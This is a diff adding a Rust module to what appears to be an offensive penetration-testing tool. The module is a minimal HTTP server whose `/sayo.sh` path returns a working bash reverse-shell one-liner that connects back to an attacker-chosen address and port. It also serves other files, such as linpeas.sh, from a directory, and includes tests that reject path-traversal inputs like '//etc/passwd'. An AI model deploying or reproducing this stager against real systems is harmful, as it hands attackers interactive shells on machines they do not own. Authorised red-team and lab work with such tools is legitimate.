@@ -0,0 +1,165 @@
+use std::{
+    net::SocketAddr,
+    path::{Component, Path, PathBuf},
+    time::Duration,
+};
+
+use anyhow::{anyhow, Context, Result};
+use log::info;
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::TcpStream,
+    time::timeout,
+};
+
+const REQUEST_TIMEOUT: Duration = Duration::from_secs(10);
+const MAX_REQUEST_SIZE: usize = 8192;
+
+/// Serve a single http request.
+/// `/sayo.sh` returns a reverse shell payload which connects back to `payload_address`,
+/// and other paths are looked up under `root` if it is given.
+pub async fn serve(
+    mut stream: TcpStream,
+    address: SocketAddr,
+    payload_address: SocketAddr,
+    root: Option<&Path>,
+) -> Result<()> {
+    let request = timeout(REQUEST_TIMEOUT, read_request(&mut stream))
+        .await
+        .context("timed out while reading the request")??;
+
+    let request_line = request.lines().next().unwrap_or_default();
+    let mut parts = request_line.split_whitespace();
+    let method = parts.next().unwrap_or_default();
+    let path = parts.next().unwrap_or_default();
+
+    let (status, body) = if method != "GET" && method != "HEAD" {
+        ("405 Method Not Allowed", b"method not allowed\n".to_vec())
+    } else if path == "/sayo.sh" {
+        ("200 OK", payload(payload_address).into_bytes())
+    } else {
+        match root.and_then(|r| resolve(r, path)) {
+            Some(file) => match tokio::fs::read(&file).await {
+                Ok(content) => ("200 OK", content),
+                Err(_) => ("404 Not Found", b"not found\n".to_vec()),
+            },
+            None => ("404 Not Found", b"not found\n".to_vec()),
+        }
+    };
+
+    info!("http: {} \"{}\" {}", address, request_line, status);
+
+    let header = format!(
+        "HTTP/1.0 {}\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+        status,
+        body.len()
+    );
+    stream
+        .write_all(header.as_bytes())
+        .await
+        .context("failed to send the response header")?;
+    if method != "HEAD" {
+        stream
+            .write_all(&body)
+            .await
+            .context("failed to send the response body")?;
+    }
+    stream.shutdown().await.ok();
+    Ok(())
+}
+
+async fn read_request(stream: &mut TcpStream) -> Result<String> {
+    let mut buf = vec![];
+    while !buf.ends_with(b"\r\n\r\n") && !buf.ends_with(b"\n\n") {
+        if buf.len() > MAX_REQUEST_SIZE {
+            return Err(anyhow!("the request is too large"));
+        }
+        let mut buf_ = [0];
+        stream
+            .read_exact(&mut buf_)
+            .await
+            .context("failed to read the request")?;
+        buf.extend_from_slice(&buf_);
+    }
+    Ok(String::from_utf8_lossy(&buf).to_string())
+}
+
+/// Map a request path to a file under the root without escaping it
+fn resolve(root: &Path, path: &str) -> Option<PathBuf> {
+    let path = path.split(['?', '#']).next().unwrap_or_default();
+    let mut file = root.to_path_buf();
+    for component in Path::new(path.trim_start_matches('/')).components() {
+        match component {
+            Component::Normal(c) => file.push(c),
+            Component::CurDir => {}
+            _ => return None,
+        }
+    }
+    if file.is_file() {
+        Some(file)
+    } else {
+        None
+    }
+}
+
+fn payload(address: SocketAddr) -> String {
+    format!(
+        "bash -c 'bash -i >& /dev/tcp/{}/{} 0>&1' &\n",
+        address.ip().to_canonical(),
+        address.port()
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+
+    /// Directory tree with a served root and a secret file next to it
+    fn tree(name: &str) -> (PathBuf, PathBuf) {
+        let base = std::env::temp_dir().join(format!("sayo-http-{}-{}", name, std::process::id()));
+        let root = base.join("root");
+        fs::create_dir_all(root.join("sub")).unwrap();
+        fs::write(root.join("payload.sh"), "id\n").unwrap();
+        fs::write(root.join("sub/linpeas.sh"), "id\n").unwrap();
+        fs::write(base.join("secret"), "secret\n").unwrap();
+        (base, root)
+    }
+
+    #[test]
+    fn resolve_serves_files_under_the_root() {
+        let (base, root) = tree("files");
+        assert_eq!(resolve(&root, "/payload.sh"), Some(root.join("payload.sh")));
+        assert_eq!(
+            resolve(&root, "/./sub/linpeas.sh"),
+            Some(root.join("sub/linpeas.sh"))
+        );
+        assert_eq!(
+            resolve(&root, "/sub/linpeas.sh?x=1#top"),
+            Some(root.join("sub/linpeas.sh"))
+        );
+        assert_eq!(resolve(&root, "/sub"), None);
+        assert_eq!(resolve(&root, "/missing"), None);
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn resolve_rejects_path_traversal() {
+        let (base, root) = tree("traversal");
+        assert_eq!(resolve(&root, "/../secret"), None);
+        assert_eq!(resolve(&root, "/sub/../../secret"), None);
+        assert_eq!(resolve(&root, "/sub/../payload.sh"), None);
+        // percent-encoding is not decoded, so it names a file which does not exist
+        assert_eq!(resolve(&root, "/%2e%2e/secret"), None);
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn resolve_keeps_absolute_paths_under_the_root() {
+        let (base, root) = tree("absolute");
+        let secret = base.join("secret");
+        assert_eq!(resolve(&root, &format!("/{}", secret.display())), None);
+        assert_eq!(resolve(&root, "//etc/passwd"), None);
+        fs::remove_dir_all(base).unwrap();
+    }
+}